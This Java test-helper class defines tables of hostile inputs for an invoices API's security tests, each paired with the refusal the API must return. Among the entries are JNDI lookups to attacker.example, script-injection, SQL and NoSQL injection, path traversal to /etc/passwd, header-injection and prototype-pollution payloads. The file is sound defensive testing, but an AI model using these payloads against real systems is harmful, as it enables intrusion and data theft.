package dev.invoices.testing;

import com.fasterxml.jackson.core.JsonGenerator;
import dev.invoices.json.Json;

import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The tables of hostile inputs shared by the {@code *HostileInputIT} suites (SECURITY.md): for each kind
 * of parameter, the bad shapes a client can send and the exact answer each must get. The expected answers are
 * what the API promises (openapi.yaml, docs/api.md); where the code answered otherwise when this suite was
 * written, the case says so in its label's comment in the suite's report, and still asserts the right behaviour.
 *
 * <p>Values may be {@code null}, meaning "absent" (a missing path parameter or header).
 */
public final class HostileInputs {
    /** The Idempotency-Key header's field name in {@code errors}. */
    public static final String IDEMPOTENCY_KEY_FIELD = "Idempotency-Key";

    private HostileInputs() {
    }

    /** The answer a hostile input must get: status, problem code and, for {@code invalid_request}, the fields. */
    public record Expected(int status, String code, List<String> fields) {
        public Expected {
            fields = List.copyOf(fields);
        }

        public static Expected invalid(String... fields) {
            return new Expected(400, "invalid_request", List.of(fields));
        }

        public static Expected invalid(List<String> fields) {
            return new Expected(400, "invalid_request", fields);
        }

        public static Expected malformedJson() {
            return new Expected(400, "malformed_json", List.of());
        }

        public static Expected invalidCursor() {
            return new Expected(400, "invalid_cursor", List.of());
        }

        public static Expected payloadTooLarge() {
            return new Expected(413, "payload_too_large", List.of());
        }

        public static Expected unsupportedMediaType() {
            return new Expected(415, "unsupported_media_type", List.of());
        }

        public static Expected methodNotAllowed() {
            return new Expected(405, "method_not_allowed", List.of());
        }

        @Override
        public String toString() {
            return status + " " + code + (fields.isEmpty() ? "" : " " + fields);
        }
    }

    /** One hostile input: a readable label (the test's name), the value sent, and the answer it must get. */
    public record Case(String label, String value, Expected expected) {
        public Case {
            Objects.requireNonNull(label, "label");
            Objects.requireNonNull(expected, "expected");
        }

        /** This case under another label prefix, e.g. the parameter it is sent in. */
        public Case in(String parameter) {
            return new Case(parameter + ": " + label, value, expected);
        }

        @Override
        public String toString() {
            return label + " → " + expected;
        }
    }

    /**
     * Asserts the answer {@code expected} in full: an RFC 9457 problem with that status and code and no internals
     * ({@link ApiResponse#assertProblem}), exactly the expected fields in {@code errors} (none for other codes),
     * and no echo of hostile markers or long values.
     */
    public static void assertAnswer(Case hostile, ApiResponse response) {
        assertTrue(response.status() < 500,
                hostile.label() + ": a hostile input produced a " + response.status() + ": " + response.body());
        response.assertProblem(hostile.expected().status(), hostile.expected().code());
        if (hostile.expected().code().equals("invalid_request")) {
            assertEquals(hostile.expected().fields(), response.errorFields(),
                    hostile.label() + ": " + response.body());
        } else {
            assertNull(response.json().get("errors"), response.body());
        }
        for (String marker : List.of("<script>", "${jndi", "OR '1'='1", "DROP TABLE", "\\u0000", "\u0000", "\u202E", "\n")) {
            assertFalse(response.body().contains(marker),
                    hostile.label() + ": the body echoes " + marker + ": " + response.body());
        }
        String value = hostile.value();
        if (value != null && value.length() > 64) {
            assertFalse(response.body().contains(value.substring(0, 65)),
                    hostile.label() + ": the body echoes the value");
        }
    }

    // ---- building blocks ----

    /** {@code n} copies of {@code s}. */
    public static String repeat(String s, int n) {
        return s.repeat(n);
    }

    /** {@code value} as a JSON string literal, every control character escaped. */
    public static String jsonString(String value) {
        // Escaped as a client would have to send it: a lone surrogate can only travel as the JSON escape \ud800.
        return Json.write(g -> {
            g.enable(JsonGenerator.Feature.ESCAPE_NON_ASCII);
            g.writeString(value);
        });
    }

    /** A 40-level nest of arrays around {@code inner}. */
    public static String nested(int depth, String inner) {
        return "[".repeat(depth) + inner + "]".repeat(depth);
    }

    /**
     * The shapes of text that no id (customer or invoice, path or body) may take. Ids become parts of DynamoDB
     * keys joined with {@code #}, so {@code #}, {@code /}, dots, whitespace, control characters, non-ASCII and
     * over-long text must all be refused, whatever they look like.
     */
    public static List<String[]> badIdShapes() {
        List<String[]> shapes = new ArrayList<>();
        shapes.add(new String[]{"empty", ""});
        shapes.add(new String[]{"one space", " "});
        shapes.add(new String[]{"surrounded by spaces", " inv_1 "});
        shapes.add(new String[]{"hash a#b", "a#b"});
        shapes.add(new String[]{"key prefix INVOICE#1", "INVOICE#1"});
        shapes.add(new String[]{"key prefix IDEMPOTENCY#x", "IDEMPOTENCY#x"});
        shapes.add(new String[]{"slash a/b", "a/b"});
        shapes.add(new String[]{"dot-dot", ".."});
        shapes.add(new String[]{"dot-dot-slash ../x", "../x"});
        shapes.add(new String[]{"encoded dot-dot %2e%2e", "%2e%2e"});
        shapes.add(new String[]{"encoded slash a%2Fb", "a%2Fb"});
        shapes.add(new String[]{"backslash a\\b", "a\\b"});
        shapes.add(new String[]{"NUL inside", "inv\u0000x"});
        shapes.add(new String[]{"newline inside", "inv\nx"});
        shapes.add(new String[]{"trailing newline", "inv_1\n"});
        shapes.add(new String[]{"tab inside", "inv\tx"});
        shapes.add(new String[]{"RTL override U+202E", "inv\u202Egnp.exe"});
        shapes.add(new String[]{"zero-width space U+200B", "inv\u200B1"});
        shapes.add(new String[]{"65 characters", "a".repeat(65)});
        shapes.add(new String[]{"10,000 characters", "a".repeat(10_000)});
        shapes.add(new String[]{"non-ASCII letter é", "factur\u00e9"});
        shapes.add(new String[]{"fullwidth digits", "\uFF11\uFF12\uFF13"});
        shapes.add(new String[]{"Arabic-Indic digits", "\u0661\u0662\u0663"});
        shapes.add(new String[]{"Cyrillic look-alike", "\u0456nv_1"});
        shapes.add(new String[]{"emoji", "inv_\uD83D\uDE00"});
        shapes.add(new String[]{"lone surrogate", "inv_\uD800"});
        shapes.add(new String[]{"<script>", "<script>alert(1)</script>"});
        shapes.add(new String[]{"SQL-ish", "' OR '1'='1"});
        shapes.add(new String[]{"NoSQL-ish", "{\"$ne\":\"\"}"});
        shapes.add(new String[]{"JNDI lookup", "${jndi:ldap://attacker.example/a}"});
        shapes.add(new String[]{"leading '-'", "-inv"});
        shapes.add(new String[]{"leading '_'", "_inv"});
        shapes.add(new String[]{"dot inside", "inv.1"});
        shapes.add(new String[]{"colon inside", "inv:1"});
        shapes.add(new String[]{"asterisk", "*"});
        return shapes;
    }

    /** Every bad id shape in {@code field} (a path parameter): 400 invalid_request naming that field. */
    public static List<Case> badIds(String field) {
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("absent", null, Expected.invalid(field)));
        for (String[] shape : badIdShapes()) {
            cases.add(new Case(shape[0], shape[1], Expected.invalid(field)));
        }
        return cases;
    }

    /** {@code limit}: only the ASCII whole numbers 1–100 are accepted. */
    public static List<Case> badLimits() {
        Expected e = Expected.invalid("limit");
        return List.of(
                new Case("0", "0", e),
                new Case("-1", "-1", e),
                new Case("101", "101", e),
                new Case("1000", "1000", e),
                new Case("2^31", "2147483648", e),
                new Case("1e2", "1e2", e),
                new Case("1.0", "1.0", e),
                new Case("1.5", "1.5", e),
                new Case("0x10", "0x10", e),
                new Case("NaN", "NaN", e),
                new Case("Infinity", "Infinity", e),
                new Case("empty", "", e),
                new Case("leading space ' 5'", " 5", e),
                new Case("trailing space '5 '", "5 ", e),
                new Case("plus sign +5", "+5", e),
                new Case("30 digits", "1".repeat(30), e),
                new Case("10,000 digits", "9".repeat(10_000), e),
                new Case("Arabic-Indic digits", "\u0665\u0660", e),
                new Case("fullwidth digits", "\uFF15", e),
                new Case("repeated parameter 5,5", "5,5", e),
                new Case("word", "ten", e),
                new Case("NUL after digits", "5\u0000", e),
                new Case("SQL-ish", "5; DROP TABLE invoices", e));
    }

    /** {@code status}: DRAFT, FINALIZED or VOID in any case, comma separated; anything else is one error. */
    public static List<Case> badStatuses() {
        Expected e = Expected.invalid("status");
        return List.of(
                new Case("empty", "", e),
                new Case("lone comma", ",", e),
                new Case("trailing comma", "DRAFT,", e),
                new Case("leading comma", ",VOID", e),
                new Case("unknown PAID", "PAID", e),
                new Case("one good one unknown", "DRAFT,PAID", e),
                new Case("semicolon separated", "DRAFT;VOID", e),
                new Case("space separated", "DRAFT VOID", e),
                new Case("prefix D", "D", e),
                new Case("wildcard *", "*", e),
                new Case("ALL", "ALL", e),
                new Case("17 characters", "DRAFT" + " ".repeat(12), e),
                new Case("10,000 characters", "V".repeat(10_000), e),
                new Case("NUL suffix", "DRAFT\u0000", e),
                new Case("JNDI lookup", "${jndi:ldap://attacker.example/a}", e),
                new Case("key fragment cus#DRAFT", "cus#DRAFT", e),
                new Case("SQL-ish", "DRAFT' OR '1'='1", e));
    }

    /** {@code starting_on} / {@code ending_before}: strict RFC 3339 date-times, years 0001–9999. */
    public static List<Case> badDates(String field) {
        Expected e = Expected.invalid(field);
        return List.of(
                new Case("empty", "", e),
                new Case("30 February", "2024-02-30T00:00:00Z", e),
                new Case("month 13", "2024-13-01T00:00:00Z", e),
                new Case("hour 24", "2024-01-01T24:00:00Z", e),
                new Case("leap second", "2016-12-31T23:59:60Z", e),
                new Case("date only", "2024-01-01", e),
                new Case("no offset", "2024-01-01T00:00:00", e),
                new Case("offset +25:00", "2024-01-01T00:00:00+25:00", e),
                new Case("offset +0000 without colon", "2024-01-01T00:00:00+0000", e),
                new Case("space instead of T", "2024-01-01 00:00:00Z", e),
                new Case("lower-case t and z", "2024-01-01t00:00:00z", e),
                new Case("year 0000", "0000-01-01T00:00:00Z", e),
                new Case("year +10000", "+10000-01-01T00:00:00Z", e),
                new Case("year 10000", "10000-01-01T00:00:00Z", e),
                new Case("9999-12-31 west of UTC (year 10000 in UTC)", "9999-12-31T23:59:59-01:00", e),
                new Case("0001-01-01 east of UTC (year 0 in UTC)", "0001-01-01T00:00:00+01:00", e),
                new Case("10 fractional digits", "2024-01-01T00:00:00.1234567890Z", e),
                new Case("empty fraction", "2024-01-01T00:00:00.Z", e),
                new Case("Unix seconds", "1704067200", e),
                new Case("Unix millis", "1704067200000", e),
                new Case("10,000 characters", "2024-01-01T00:00:00Z" + "0".repeat(9_980), e),
                new Case("trailing newline", "2024-01-01T00:00:00Z\n", e),
                new Case("Arabic-Indic digits", "\u0662\u0660\u0662\u0664-01-01T00:00:00Z", e),
                new Case("named zone", "2024-01-01T00:00:00[Europe/Paris]", e),
                new Case("JNDI lookup", "${jndi:ldap://attacker.example/a}", e));
    }

    /** {@code sort}: exactly {@code date_asc} or {@code date_desc}. */
    public static List<Case> badSorts() {
        Expected e = Expected.invalid("sort");
        return List.of(
                new Case("empty", "", e),
                new Case("upper case DATE_ASC", "DATE_ASC", e),
                new Case("trailing space", "date_asc ", e),
                new Case("leading space", " date_desc", e),
                new Case("asc", "asc", e),
                new Case("desc", "desc", e),
                new Case("repeated parameter", "date_asc,date_desc", e),
                new Case("attribute name", "start_timestamp", e),
                new Case("minus attribute", "-start_timestamp", e),
                new Case("NUL suffix", "date_asc\u0000", e),
                new Case("10,000 characters", "d".repeat(10_000), e),
                new Case("JNDI lookup", "${jndi:ldap://attacker.example/a}", e),
                new Case("SQL-ish", "date_desc; DROP TABLE invoices", e));
    }

    /** {@code next_page} values that were never a cursor: one 400 invalid_cursor each. */
    public static List<Case> badCursors() {
        Expected e = Expected.invalidCursor();
        return List.of(
                new Case("one space", " ", e),
                new Case("one character", "x", e),
                new Case("not base64url", "garbage!", e),
                new Case("null text", "null", e),
                new Case("padding only", "=", e),
                new Case("standard base64 alphabet", "AQ+/" + "A".repeat(40), e),
                new Case("base64 of a JSON key", "eyJwayI6IklOVk9JQ0UjMSJ9", e),
                new Case("version byte then zeros", "AQ" + "A".repeat(60), e),
                new Case("1024 characters", "A".repeat(1024), e),
                new Case("1025 characters", "A".repeat(1025), e),
                new Case("10,000 characters", "A".repeat(10_000), e),
                new Case("NUL", "\u0000", e),
                new Case("newline", "AQAA\nAAAA", e),
                new Case("path traversal", "../../etc/passwd", e),
                new Case("JNDI lookup", "${jndi:ldap://attacker.example/a}", e),
                new Case("non-ASCII", "\u00e9\u00e9\u00e9\u00e9", e));
    }

    /**
     * Alterations of a real cursor: each must be 400 invalid_cursor.
     *
     * @param cursor a {@code next_page} the service handed out for the query the test will send
     */
    public static List<Case> tamperedCursors(String cursor) {
        Expected e = Expected.invalidCursor();
        Function<Integer, String> flipAt = i -> cursor.substring(0, i) + (cursor.charAt(i) == 'A' ? 'B' : 'A')
                + cursor.substring(i + 1);
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("first character changed (version)", flipAt.apply(0), e));
        cases.add(new Case("a nonce character changed", flipAt.apply(5), e));
        cases.add(new Case("a middle character changed", flipAt.apply(cursor.length() / 2), e));
        cases.add(new Case("last character changed", flipAt.apply(cursor.length() - 1), e));
        cases.add(new Case("last character dropped", cursor.substring(0, cursor.length() - 1), e));
        cases.add(new Case("one character appended", cursor + "A", e));
        cases.add(new Case("padded with =", cursor + "==", e));
        cases.add(new Case("doubled", cursor + cursor, e));
        cases.add(new Case("reversed", new StringBuilder(cursor).reverse().toString(), e));
        cases.add(new Case("case swapped", swapCase(cursor), e));
        cases.add(new Case("surrounded by spaces", " " + cursor + " ", e));
        cases.add(new Case("header only (13 bytes)", cursor.substring(0, 18), e));
        return cases;
    }

    private static String swapCase(String s) {
        return s.chars().map(c -> Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c))
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
    }

    /** Bodies that are not one well-formed JSON object of at most 32 levels: 400 malformed_json. */
    public static List<Case> notJsonObjects(String validId) {
        Expected e = Expected.malformedJson();
        String id = jsonString(validId);
        return List.of(
                new Case("not JSON", "not json", e),
                new Case("array []", "[]", e),
                new Case("array of the object", "[{\"id\": " + id + "}]", e),
                new Case("null", "null", e),
                new Case("string", "\"str\"", e),
                new Case("number", "42", e),
                new Case("true", "true", e),
                new Case("whitespace only", "   \n\t", e),
                new Case("unclosed object", "{\"id\": " + id, e),
                new Case("trailing data", "{\"id\": " + id + "} x", e),
                new Case("two objects", "{\"id\": " + id + "}{}", e),
                new Case("trailing comma", "{\"id\": " + id + ",}", e),
                new Case("single quotes", "{'id': '" + validId + "'}", e),
                new Case("unquoted key", "{id: " + id + "}", e),
                new Case("comment", "/* hi */{\"id\": " + id + "}", e),
                new Case("duplicate key, same value", "{\"id\": " + id + ", \"id\": " + id + "}", e),
                new Case("duplicate key, other value", "{\"id\": \"other\", \"id\": " + id + "}", e),
                new Case("40-deep nesting", "{\"id\": " + id + ", \"x\": " + nested(40, "1") + "}", e),
                new Case("10,000-deep nesting", nested(10_000, ""), e),
                new Case("NaN", "{\"id\": NaN}", e),
                new Case("Infinity", "{\"id\": Infinity}", e),
                new Case("-Infinity", "{\"id\": -Infinity}", e),
                new Case("101-digit number", "{\"id\": " + "9".repeat(101) + "}", e),
                new Case("exponent beyond int", "{\"id\": 1e99999999999}", e),
                new Case("leading zeros", "{\"id\": 007}", e),
                new Case("hex number", "{\"id\": 0x10}", e),
                new Case("raw control character in string", "{\"id\": \"a\u0001b\"}", e),
                new Case("invalid escape", "{\"id\": \"\\x41\"}", e));
    }

    /**
     * Bodies whose {@code id} member has a bad value: 400 invalid_request naming {@code id} (and nothing else).
     */
    public static List<Case> badIdMembers() {
        Expected e = Expected.invalid("id");
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("{} (id missing)", "{}", e));
        cases.add(new Case("id null", "{\"id\": null}", e));
        cases.add(new Case("id number 1", "{\"id\": 1}", e));
        cases.add(new Case("id 1e400", "{\"id\": 1e400}", e));
        cases.add(new Case("id 40-digit number", "{\"id\": " + "1234567890".repeat(4) + "}", e));
        cases.add(new Case("id -0", "{\"id\": -0}", e));
        cases.add(new Case("id true", "{\"id\": true}", e));
        cases.add(new Case("id array [\"a\"]", "{\"id\": [\"a\"]}", e));
        cases.add(new Case("id operator object {$ne: \"\"}", "{\"id\": {\"$ne\": \"\"}}", e));
        cases.add(new Case("id empty object", "{\"id\": {}}", e));
        for (String[] shape : badIdShapes()) {
            cases.add(new Case("id " + shape[0], "{\"id\": " + jsonString(shape[1]) + "}", e));
        }
        return cases;
    }

    /**
     * Bodies with a valid id and members the route does not know: 400 invalid_request naming each (sorted,
     * at most 10, cut to 64 characters), so that no request can set {@code status}, {@code total}…
     */
    public static List<Case> unknownMembers(String validId) {
        String id = "\"id\": " + jsonString(validId);
        List<Case> cases = new ArrayList<>();
        for (String[] member : new String[][]{
                {"status", "\"VOID\""}, {"total", "0"}, {"subtotal", "\"0.00\""}, {"version", "99"},
                {"customer_id", "\"someone-else\""}, {"paid", "true"}, {"replaced_by_invoice_id", "\"x\""},
                {"pk", "\"INVOICE#x\""}, {"__proto__", "{\"admin\": true}"}, {"ID", "\"x\""}, {" id", "\"x\""},
                {"Idempotency-Key", "\"k\""}}) {
            cases.add(new Case("unknown member " + member[0],
                    "{" + id + ", " + jsonString(member[0]) + ": " + member[1] + "}",
                    Expected.invalid(member[0])));
        }
        cases.add(new Case("31-deep unknown member (within the nesting limit)",
                "{" + id + ", \"x\": " + nested(30, "1") + "}", Expected.invalid("x")));
        cases.add(new Case("unknown member with a 1e400 value", "{" + id + ", \"amount\": 1e400}",
                Expected.invalid("amount")));
        cases.add(new Case("200-character member name (cut to 64)",
                "{" + id + ", " + jsonString("k".repeat(200)) + ": 1}", Expected.invalid("k".repeat(64))));
        cases.add(new Case("member name cut inside a surrogate pair",
                "{" + id + ", " + jsonString("k".repeat(63) + "\uD83D\uDE00") + ": 1}",
                Expected.invalid("k".repeat(63))));
        String many = IntStream.range(0, 1000).mapToObj(i -> "\"k%04d\": 0".formatted(i))
                .collect(Collectors.joining(", "));
        cases.add(new Case("1000 unknown members (10 named)", "{" + id + ", " + many + "}",
                Expected.invalid(IntStream.range(0, 10).mapToObj(i -> "k%04d".formatted(i)).toList())));
        return cases;
    }

    /** {@code reason} of a void: a string of at most 500 characters without control characters but newline. */
    public static List<Case> badReasons(String validId) {
        String id = "\"id\": " + jsonString(validId);
        Expected e = Expected.invalid("reason");
        List<Case> cases = new ArrayList<>();
        for (String[] value : new String[][]{
                {"number", "5"}, {"40-digit number", "1234567890".repeat(4)}, {"1e400", "1e400"},
                {"true", "true"}, {"array", "[\"a\"]"}, {"object", "{\"text\": \"a\"}"}}) {
            cases.add(new Case("reason " + value[0], "{" + id + ", \"reason\": " + value[1] + "}", e));
        }
        for (String[] value : new String[][]{
                {"501 characters", "r".repeat(501)}, {"10,000 characters", "r".repeat(10_000)},
                {"NUL", "Billed\u0000twice"}, {"carriage return", "Billed\rtwice"}, {"tab", "Billed\ttwice"},
                {"ANSI escape", "\u001B[31mred"}, {"DEL", "x\u007F"}, {"C1 control NEL", "x\u0085y"},
                {"lone surrogate", "broken \uD800 text"}}) {
            cases.add(new Case("reason " + value[0], "{" + id + ", \"reason\": " + jsonString(value[1]) + "}", e));
        }
        return cases;
    }

    /** Bodies over 64 KiB (in UTF-8 bytes): 413 payload_too_large, whatever they hold. */
    public static List<Case> oversizedBodies(String validId) {
        Expected e = Expected.payloadTooLarge();
        String id = "\"id\": " + jsonString(validId);
        return List.of(
                new Case("65 KiB JSON", "{" + id + ", \"pad\": \"" + "x".repeat(65 * 1024) + "\"}", e),
                new Case("64 KiB + 1 byte", padTo(validId, 64 * 1024 + 1), e),
                new Case("40,000 two-byte characters (80,000 bytes)",
                        "{" + id + ", \"pad\": \"" + "\u00e9".repeat(40_000) + "\"}", e),
                new Case("1 MiB of garbage", "x".repeat(1 << 20), e));
    }

    /** A JSON object with the id and a padding member, exactly {@code bytes} bytes of UTF-8. */
    public static String padTo(String validId, int bytes) {
        String prefix = "{\"id\": " + jsonString(validId) + ", \"pad\": \"";
        String suffix = "\"}";
        return prefix + "x".repeat(bytes - prefix.length() - suffix.length()) + suffix;
    }

    /** {@code Content-Type} values that do not declare UTF-8 JSON ({@code null}: absent): 415. */
    public static List<Case> badContentTypes() {
        Expected e = Expected.unsupportedMediaType();
        return List.of(
                new Case("absent", null, e),
                new Case("empty", "", e),
                new Case("text/plain", "text/plain", e),
                new Case("text/json", "text/json", e),
                new Case("charset=iso-8859-1", "application/json; charset=iso-8859-1", e),
                new Case("charset=utf-16", "application/json; charset=utf-16", e),
                new Case("form-urlencoded", "application/x-www-form-urlencoded", e),
                new Case("multipart", "multipart/form-data; boundary=x", e),
                new Case("xml", "application/xml", e),
                new Case("application/jsonp", "application/jsonp", e),
                new Case("two types", "application/json, text/plain", e),
                new Case("octet-stream", "application/octet-stream", e),
                new Case("wildcard", "*/*", e));
    }

    /** {@code Idempotency-Key} values outside 1–255 printable ASCII characters: 400 naming the header. */
    public static List<Case> badIdempotencyKeys() {
        Expected e = Expected.invalid(IDEMPOTENCY_KEY_FIELD);
        return List.of(
                new Case("empty", "", e),
                new Case("256 characters", "k".repeat(256), e),
                new Case("10,000 characters", "k".repeat(10_000), e),
                new Case("non-ASCII", "\u043a\u043b\u044e\u0447", e),
                new Case("newline", "key\nX-Injected: 1", e),
                new Case("carriage return", "key\r", e),
                new Case("NUL", "key\u0000", e),
                new Case("tab", "key\tkey", e),
                new Case("DEL", "key\u007F", e),
                new Case("RTL override", "key\u202E", e),
                new Case("emoji", "key\uD83D\uDE00", e));
    }

    /** HTTP methods other than {@code allowed}: 405 method_not_allowed. */
    public static List<Case> wrongMethods(String allowed) {
        List<Case> cases = new ArrayList<>();
        for (String method : List.of("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "")) {
            if (!method.equals(allowed)) {
                cases.add(new Case("method '" + method + "'", method, Expected.methodNotAllowed()));
            }
        }
        return cases;
    }
}
